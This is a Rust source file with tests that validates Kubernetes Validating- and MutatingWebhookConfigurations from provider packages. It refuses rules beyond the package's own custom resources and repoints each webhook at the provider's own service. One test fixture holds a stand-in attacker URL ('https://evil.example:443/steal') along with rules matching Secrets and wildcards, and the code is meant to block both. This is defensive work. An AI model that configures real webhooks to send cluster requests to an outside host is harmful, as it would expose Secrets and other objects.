//! A provider package's Validating- and MutatingWebhookConfigurations.
//!
//! A webhook configuration decides which requests the API server sends to
//! a webhook: whoever writes one may read (and, mutating, change) every
//! object it matches, Secrets included. So a package's configuration is
//! installed only when every rule of every webhook names the package's own
//! kinds (its CRDs' groups and resources, no `*`), and each webhook is
//! pointed at the provider's own runtime (its Service in the
//! runtimes' namespace, port 9443, the package's path, the
//! provider's CA), whatever the package said. The configurations are
//! controlled by the revision, like its CRDs, so they go with it.

use std::collections::BTreeSet;

use base64::Engine as _;
use serde_json::{Value, json};

use crate::crds::WebhookTarget;

/// The plural resource names (and groups) of a package's CRDs.
pub fn kinds(crds: &[Value]) -> BTreeSet<(String, String)> {
    crds.iter()
        .filter_map(|c| {
            Some((
                c.pointer("/spec/group")?.as_str()?.to_owned(),
                c.pointer("/spec/names/plural")?.as_str()?.to_owned(),
            ))
        })
        .collect()
}

/// Why a package may not install webhook configuration `object`: a webhook
/// matching anything but the package's own kinds. `None` when it may.
pub fn refused(object: &Value, own: &BTreeSet<(String, String)>) -> Option<String> {
    let kind = object
        .get("kind")
        .and_then(Value::as_str)
        .unwrap_or_default();
    let name = object
        .pointer("/metadata/name")
        .and_then(Value::as_str)
        .unwrap_or_default();
    let what = format!("{kind} {name}");
    let webhooks = object.get("webhooks")?;
    let Some(webhooks) = webhooks.as_array() else {
        return Some(format!("{what}: webhooks must be a list"));
    };
    let groups: BTreeSet<&str> = own.iter().map(|(g, _)| g.as_str()).collect();
    let mut outside = BTreeSet::new();
    for (i, w) in webhooks.iter().enumerate() {
        let Some(rules) = w.get("rules").and_then(Value::as_array) else {
            // No rules: the webhook matches nothing.
            if w.get("rules").is_some_and(|r| !r.is_null()) {
                return Some(format!("{what}: webhooks[{i}].rules must be a list"));
            }
            continue;
        };
        for rule in rules {
            let strings = |k: &str| -> Vec<String> {
                rule.get(k)
                    .and_then(Value::as_array)
                    .map(|a| {
                        a.iter()
                            .map(|v| v.as_str().unwrap_or("<not a string>").to_owned())
                            .collect()
                    })
                    .unwrap_or_default()
            };
            let (rule_groups, resources) = (strings("apiGroups"), strings("resources"));
            if rule_groups.is_empty() || resources.is_empty() {
                outside.insert(format!(
                    "webhooks[{i}]: a rule without apiGroups and resources"
                ));
            }
            for g in &rule_groups {
                if !groups.contains(g.as_str()) {
                    outside.insert(format!("webhooks[{i}]: API group \"{g}\""));
                }
            }
            for r in &resources {
                let base = r.split('/').next().unwrap_or_default();
                let ours = rule_groups
                    .iter()
                    .all(|g| own.contains(&(g.clone(), base.to_owned())));
                if !ours {
                    outside.insert(format!("webhooks[{i}]: resource \"{r}\""));
                }
            }
        }
    }
    (!outside.is_empty()).then(|| {
        format!(
            "{what} matches requests for more than the package's own kinds ({}); a package's webhooks may only see its own custom resources",
            outside.into_iter().collect::<Vec<_>>().join(", ")
        )
    })
}

/// The configuration as installed: each webhook pointed at `target` (the
/// package's path kept), controlled by `owner`, labelled with the package.
pub fn body(
    object: &Value,
    target: &WebhookTarget<'_>,
    owner: &Value,
    labels: &serde_json::Map<String, Value>,
) -> Value {
    let ca = base64::engine::general_purpose::STANDARD.encode(target.ca_bundle);
    let webhooks: Vec<Value> = object
        .get("webhooks")
        .and_then(Value::as_array)
        .cloned()
        .unwrap_or_default()
        .into_iter()
        .map(|mut w| {
            let path = w
                .pointer("/clientConfig/service/path")
                .and_then(Value::as_str)
                .filter(|p| p.starts_with('/'))
                .map(str::to_owned);
            if let Some(o) = w.as_object_mut() {
                let mut service = json!({
                    "name": target.service,
                    "namespace": target.namespace,
                    "port": target.port,
                });
                if let (Some(p), Some(s)) = (path, service.as_object_mut()) {
                    s.insert("path".into(), p.into());
                }
                o.insert(
                    "clientConfig".into(),
                    json!({"service": service, "caBundle": ca}),
                );
            }
            w
        })
        .collect();
    let mut meta = json!({
        "name": object.pointer("/metadata/name").cloned().unwrap_or_default(),
        "labels": labels,
        "ownerReferences": [owner],
    });
    if let Some(a) = object
        .pointer("/metadata/annotations")
        .filter(|a| a.as_object().is_some_and(|a| !a.is_empty()))
        && let Some(m) = meta.as_object_mut()
    {
        m.insert("annotations".into(), a.clone());
    }
    json!({
        "apiVersion": "admissionregistration.k8s.io/v1",
        "kind": object.get("kind").cloned().unwrap_or_default(),
        "metadata": meta,
        "webhooks": webhooks,
    })
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]

    use super::*;

    fn own() -> BTreeSet<(String, String)> {
        kinds(&[json!({"spec": {"group": "example.org", "names": {"plural": "things"}}})])
    }

    fn hook(rules: Value) -> Value {
        json!({
            "apiVersion": "admissionregistration.k8s.io/v1",
            "kind": "ValidatingWebhookConfiguration",
            "metadata": {"name": "things"},
            "webhooks": [{
                "name": "things.example.org",
                "clientConfig": {"url": "https://evil.example:443/steal", "service": {"name": "x", "namespace": "kube-system", "path": "/validate-things"}},
                "rules": rules,
                "sideEffects": "None",
                "admissionReviewVersions": ["v1"],
            }],
        })
    }

    #[test]
    fn a_webhook_may_see_only_the_packages_own_kinds() {
        let ok = hook(
            json!([{"apiGroups": ["example.org"], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["things", "things/status"]}]),
        );
        assert_eq!(refused(&ok, &own()), None);
        for (rules, says) in [
            (
                json!([{"apiGroups": [""], "resources": ["secrets"]}]),
                "API group \"\"",
            ),
            (
                json!([{"apiGroups": ["*"], "resources": ["*"]}]),
                "API group \"*\"",
            ),
            (
                json!([{"apiGroups": ["example.org"], "resources": ["*"]}]),
                "resource \"*\"",
            ),
            (
                json!([{"apiGroups": ["example.org"], "resources": ["others"]}]),
                "resource \"others\"",
            ),
            (
                json!([{"operations": ["CREATE"]}]),
                "without apiGroups and resources",
            ),
        ] {
            let why = refused(&hook(rules), &own()).unwrap();
            assert!(why.contains(says), "{why}");
            assert!(
                why.contains("ValidatingWebhookConfiguration things"),
                "{why}"
            );
        }
        assert!(refused(&json!({"kind": "X", "webhooks": 3}), &own()).is_some());
    }

    #[test]
    fn every_webhook_is_pointed_at_the_providers_own_runtime() {
        let target = WebhookTarget {
            service: "provider-x",
            namespace: "crossplane-system",
            port: 9443,
            ca_bundle: "PEM",
        };
        let owner =
            json!({"kind": "ProviderRevision", "name": "r", "uid": "u", "controller": true});
        let labels = serde_json::Map::from_iter([(
            "pkg.crossplane.io/package".to_owned(),
            json!("provider-x"),
        )]);
        let b = body(&hook(json!([])), &target, &owner, &labels);
        assert_eq!(
            b["webhooks"][0]["clientConfig"],
            json!({"service": {"name": "provider-x", "namespace": "crossplane-system", "port": 9443, "path": "/validate-things"}, "caBundle": "UEVN"})
        );
        assert_eq!(b["webhooks"][0]["sideEffects"], "None");
        assert_eq!(b["metadata"]["ownerReferences"], json!([owner]));
        assert_eq!(
            b["metadata"]["labels"]["pkg.crossplane.io/package"],
            "provider-x"
        );
    }
}
